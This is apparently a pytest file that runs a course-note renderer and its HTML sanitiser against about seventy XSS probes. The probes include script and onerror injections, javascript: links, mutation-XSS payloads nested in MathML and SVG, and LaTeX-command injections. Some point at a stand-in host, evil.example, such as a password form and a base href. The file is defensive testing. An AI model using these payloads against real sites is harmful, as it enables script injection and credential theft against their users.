"""What a note must never let through: probes against the parser and the sanitiser."""

import re
from html.parser import HTMLParser

import nh3
import pytest

from courses.materials import rendering
from courses.materials.rendering import render_note

PROBES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><maction actiontype='statusline#https://evil.example' xlink:href='javascript:alert(1)'>"
    "x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><semantics><annotation-xml encoding='application/xhtml+xml'><img src=x onerror=alert(1)>"
    "</annotation-xml></semantics></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)",
    "<a href='/' onclick='alert(1)' ",
    '<p title="unclosed <img src=x onerror=alert(1)>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/tracker.gif)",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    '[x](/a "\\" onmouseover=alert(1) x=\\"")',
    "[x](/a '\"><img src=x onerror=alert(1)>')",
    '![" onerror="alert(1)](/files/12345678-1234-1234-1234-123456789012/a.png)',
    '![x](/files/12345678-1234-1234-1234-123456789012/a.png "\\" onerror=\\"alert(1)")',
    "｜<script>alert(1)</script>《<img src=x onerror=alert(1)>》",
    '｜x《"><svg onload=alert(1)>》',
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| --- | --- |\n"
    "| <img src=x onerror=alert(1)> | $\\href{javascript:alert(1)}{x}$ |",
    "# <img src=x onerror=alert(1)>",
    "```<script>\n</code><script>alert(1)</script>\n```",
    '``` "onmouseover=alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$\style{background:url(javascript:alert(1))}{x}$",
    r"$\class{x" + '" onclick="alert(1)' + r"}{x}$",
    r"$\begin{array}{<img src=x onerror=alert(1)>}x\end{array}$",
    r"$\operatorname{<script>alert(1)</script>}$",
    r"$\mathrm{</math><script>alert(1)</script>}$",
    "$</math><script>alert(1)</script>$",
    "$$\n</math><style><img src=x onerror=alert(1)></style>\n$$",
    r"$\hspace{1em" + '" onclick="alert(1)' + r"}x$",
]

HARMLESS_TAGS = rendering.TAGS
HARMLESS_ATTRIBUTES = {"class", "target", "rel"}.union(*rendering.ATTRIBUTES.values())


class Reader(HTMLParser):
    """What is really there in the HTML: elements and attributes, text aside."""

    def __init__(self, html):
        super().__init__()
        self.elements = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data):
        raise AssertionError(f"a comment came through: {data}")


def assert_harmless(html):
    for tag, attributes in Reader(html).elements:
        assert tag in HARMLESS_TAGS, html
        assert set(attributes) <= HARMLESS_ATTRIBUTES, html
        assert not any(name.startswith("on") for name in attributes), html
        href, src = attributes.get("href"), attributes.get("src")
        assert href is None or re.match(r"https?://|mailto:|/(?![/\\])|[^:/\\]*$", href), html
        assert src is None or rendering.PICTURE.fullmatch(src), html


@pytest.mark.parametrize("probe", PROBES)
def test_a_probe_does_not_pass(probe):
    assert_harmless(render_note(probe))


@pytest.mark.parametrize("probe", PROBES)
def test_a_probe_does_not_pass_in_the_middle_of_a_note(probe):
    assert_harmless(render_note(f"まえ {probe} あと"))
    assert_harmless(render_note(f"- 箇条書き\n\n  > {probe}\n\n$x$"))


@pytest.mark.parametrize("probe", PROBES)
def test_the_sanitiser_alone_would_stop_it_too(probe, monkeypatch):
    """The second wall by itself: as if the parser let raw HTML and any address through."""
    open_parser = rendering._parser.__wrapped__()
    open_parser.options["html"] = True
    open_parser.validateLink = lambda url: True
    monkeypatch.setattr(rendering, "_parser", lambda: open_parser)
    assert_harmless(render_note(probe))


@pytest.mark.parametrize("probe", PROBES)
def test_what_came_out_means_the_same_when_it_is_parsed_again(probe):
    """Mutation XSS hides in HTML that changes when a browser parses it once more."""
    once = render_note(probe)
    again = nh3.clean(once, tags=rendering.TAGS | {"script", "style"}, clean_content_tags=set())
    assert_harmless(nh3.clean(once, tags=rendering.TAGS, attributes=rendering.ATTRIBUTES))
    assert "<script" not in again
    assert "<style" not in again


def test_there_is_something_to_probe():
    """The reader of these tests sees an attack where there is one."""
    with pytest.raises(AssertionError):
        assert_harmless("<img src=x onerror=alert(1)>")
    with pytest.raises(AssertionError):
        assert_harmless("<a href='javascript:alert(1)'>x</a>")
